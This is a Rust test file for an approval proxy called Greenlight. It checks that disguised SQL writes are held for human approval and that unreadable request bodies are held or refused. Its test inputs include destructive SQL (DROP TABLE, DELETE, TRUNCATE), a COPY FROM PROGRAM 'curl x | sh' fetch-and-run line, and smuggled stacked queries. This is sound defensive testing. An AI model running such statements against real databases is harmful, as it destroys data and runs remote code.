//! `body = { pointer, sql = "writes" }` through a real proxy, Greenlight and upstream:
//! plain reads pass, every way of hiding a write is held (and never reaches the upstream
//! unless approved), and a body the proxy cannot read is held as `unknown` or refused.

use super::{pending_action, proxy_with, send};
use crate::common::{Backend, TestApp, spawn_app};
use greenlight::client::Client;
use serde_json::json;
use std::sync::atomic::Ordering;

const SQL_ROUTES: &str = r#"
[proxy]
hold_timeout = "20s"

[requester]
header = "x-user"
email_header = "x-user-email"

[[route]]
name = "sql-writes"
methods = ["POST"]
path = "/sql"
body = { pointer = "/query", sql = "writes" }
action = "db.{sql.kind}"
resource = "postgres://prod/{sql.tables}"
context = { statement = "{body}", kind = "{sql.kind}" }
"#;

async fn sql_proxy(app: &TestApp, routes: &str) -> super::Running {
    proxy_with(
        app,
        Client::new(&app.base, "app", app.secret("app")),
        routes,
    )
    .await
}

fn post(proxy: &super::Running, body: impl Into<reqwest::Body>) -> reqwest::RequestBuilder {
    post_as(proxy, "application/json", body)
}

fn post_as(
    proxy: &super::Running,
    content_type: &str,
    body: impl Into<reqwest::Body>,
) -> reqwest::RequestBuilder {
    reqwest::Client::new()
        .post(format!("{}/sql", proxy.base))
        .header("x-user", "alice")
        .header("x-user-email", "alice@example.com")
        .header("content-type", content_type)
        .body(body)
}

fn query(sql: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({ "query": sql })).unwrap()
}

/// Sends `request`, expects it held as `action` on `resource` (read back through the
/// API), denies it, and checks that nothing reached the upstream.
async fn held_then_denied(
    app: &TestApp,
    proxy: &super::Running,
    request: reqwest::RequestBuilder,
    action: &str,
    resource: &str,
) {
    let before = proxy.upstream.reached.load(Ordering::SeqCst);
    let held = tokio::spawn(send(request));
    let pending = pending_action(app).await;
    let id = pending["id"].as_str().unwrap();
    let stored = app.get("app", id).await.body;
    assert_eq!(stored["action"], action, "{stored}");
    assert_eq!(stored["resource"], resource, "{stored}");
    assert_eq!(stored["status"], "pending");
    assert_eq!(
        proxy.upstream.reached.load(Ordering::SeqCst),
        before,
        "{action}: forwarded before a decision"
    );
    assert_eq!(app.decide(id, "denied").await.status, 200);
    let (status, _, body) = held.await.unwrap();
    assert_eq!(status, 403, "{body}");
    assert_eq!(
        proxy.upstream.reached.load(Ordering::SeqCst),
        before,
        "{action}: a denied request reached the upstream"
    );
}

async fn plain_reads_pass_and_hidden_writes_are_held(backend: Backend) {
    let app = spawn_app(backend).await;
    let proxy = sql_proxy(&app, SQL_ROUTES).await;
    for read in [
        "SELECT * FROM users",
        "/* DROP TABLE users */ SELECT 1",
        "SELECT 'DELETE FROM users; DROP TABLE users'",
        "SELECT $$DROP TABLE users$$",
        "EXPLAIN DELETE FROM users",
        "BEGIN; SELECT * FROM users; COMMIT",
    ] {
        let (status, _, seen) = send(post(&proxy, query(read))).await;
        assert_eq!(status, 200, "{read}: {seen}");
        assert_eq!(seen["body"], String::from_utf8(query(read)).unwrap());
    }
    assert!(app.service.pending(10).await.unwrap().is_empty());
    assert_eq!(proxy.upstream.reached.load(Ordering::SeqCst), 6);

    for (sql, action, resource) in [
        (
            "/* x */ DROP TABLE users",
            "db.drop_table",
            "postgres://prod/users",
        ),
        (
            "-- c\nDELETE FROM users",
            "db.delete",
            "postgres://prod/users",
        ),
        (
            "SELECT 1; DROP TABLE users",
            "db.drop_table",
            "postgres://prod/users",
        ),
        (
            "WITH d AS (DELETE FROM public.payments RETURNING *) SELECT * FROM d JOIN users u ON true",
            "db.delete",
            "postgres://prod/public.payments,users",
        ),
        (
            "DO $$ BEGIN DELETE FROM users; END $$",
            "db.do",
            "postgres://prod/",
        ),
        (
            "COPY users FROM PROGRAM 'curl x | sh'",
            "db.copy",
            "postgres://prod/users",
        ),
        (
            "SELECT * FROM users FOR UPDATE",
            "db.select_lock",
            "postgres://prod/users",
        ),
        (
            "EXPLAIN ANALYZE DELETE FROM users",
            "db.delete",
            "postgres://prod/users",
        ),
        (
            "SELECT pg_terminate_backend(42)",
            "db.function",
            "postgres://prod/",
        ),
    ] {
        held_then_denied(&app, &proxy, post(&proxy, query(sql)), action, resource).await;
    }
}

async fn an_approved_write_is_forwarded_as_sent(backend: Backend) {
    let app = spawn_app(backend).await;
    let proxy = sql_proxy(&app, SQL_ROUTES).await;
    let sql = "SELECT 1; TRUNCATE orders, public.users";
    let held = tokio::spawn(send(post(&proxy, query(sql))));
    let pending = pending_action(&app).await;
    let id = pending["id"].as_str().unwrap();
    let stored = app.get("app", id).await.body;
    assert_eq!(stored["action"], "db.truncate");
    assert_eq!(stored["resource"], "postgres://prod/orders,public.users");
    assert_eq!(stored["context"]["statement"], sql);
    assert_eq!(app.decide(id, "approved").await.status, 200);
    let (status, _, seen) = held.await.unwrap();
    assert_eq!(status, 200, "{seen}");
    assert_eq!(seen["body"], String::from_utf8(query(sql)).unwrap());
    assert_eq!(seen["headers"]["greenlight-action-id"], id);
    assert_eq!(proxy.upstream.reached.load(Ordering::SeqCst), 1);
}

/// What the proxy cannot read, each with what it is.
fn unreadable(proxy: &super::Running) -> Vec<(&'static str, reqwest::RequestBuilder)> {
    vec![
        ("not JSON", post(proxy, "DROP TABLE users")),
        // serde_json refuses a lone surrogate; a laxer parser upstream might not.
        (
            "lone surrogate",
            post(proxy, r#"{"query": "\ud800; DROP TABLE users"}"#),
        ),
        (
            "repeated key",
            post(
                proxy,
                r#"{"query": "SELECT 1", "query": "DROP TABLE users"}"#,
            ),
        ),
        ("no pointer", post(proxy, r#"{"sql": "DROP TABLE users"}"#)),
        ("number at pointer", post(proxy, r#"{"query": 42}"#)),
        ("does not parse", post(proxy, query("DELET FROM users"))),
        (
            "form content type",
            post_as(
                proxy,
                "application/x-www-form-urlencoded",
                query("SELECT 1"),
            ),
        ),
        (
            "two content types",
            post(proxy, query("SELECT 1")).header("content-type", "text/plain"),
        ),
        (
            "gzip",
            post(proxy, query("SELECT 1")).header("content-encoding", "gzip"),
        ),
    ]
}

async fn unreadable_bodies_are_held_as_unknown(backend: Backend) {
    let app = spawn_app(backend).await;
    let proxy = sql_proxy(&app, SQL_ROUTES).await;
    for (what, request) in unreadable(&proxy) {
        eprintln!("unreadable: {what}");
        held_then_denied(&app, &proxy, request, "db.unknown", "postgres://prod/").await;
    }
    assert_eq!(proxy.upstream.reached.load(Ordering::SeqCst), 0);
}

on_both_backends!(
    plain_reads_pass_and_hidden_writes_are_held,
    an_approved_write_is_forwarded_as_sent,
    unreadable_bodies_are_held_as_unknown,
);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_unparsable_refuse_answers_400_and_forwards_nothing() {
    let app = spawn_app(Backend::Memory).await;
    let routes = SQL_ROUTES.replace(
        r#"sql = "writes" }"#,
        r#"sql = "writes", on_unparsable = "refuse" }"#,
    );
    let proxy = sql_proxy(&app, &routes).await;
    for (what, request) in unreadable(&proxy) {
        let (status, _, body) = send(request).await;
        assert_eq!(status, 400, "{what}: {body}");
        assert_eq!(body["error"]["code"], "invalid_request", "{what}: {body}");
        assert!(body["error"]["message"].is_string(), "{what}: {body}");
    }
    assert!(app.service.pending(10).await.unwrap().is_empty());
    assert_eq!(proxy.upstream.reached.load(Ordering::SeqCst), 0);
    // Readable SQL is still judged as usual.
    let (status, _, _) = send(post(&proxy, query("SELECT 1"))).await;
    assert_eq!(status, 200);
}

/// Tables are never cut to fit: an action whose resource would be too long is refused by
/// Greenlight, and the request is not forwarded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn too_many_tables_for_a_resource_fail_closed() {
    let app = spawn_app(Backend::Memory).await;
    let proxy = sql_proxy(&app, SQL_ROUTES).await;
    let tables: Vec<String> = (0..60).map(|i| format!("table_number_{i:03}")).collect();
    let sql = format!("DELETE FROM payments USING {}", tables.join(", "));
    let (status, _, body) = send(post(&proxy, query(&sql))).await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["code"], "invalid_request");
    assert_eq!(proxy.upstream.reached.load(Ordering::SeqCst), 0);
}
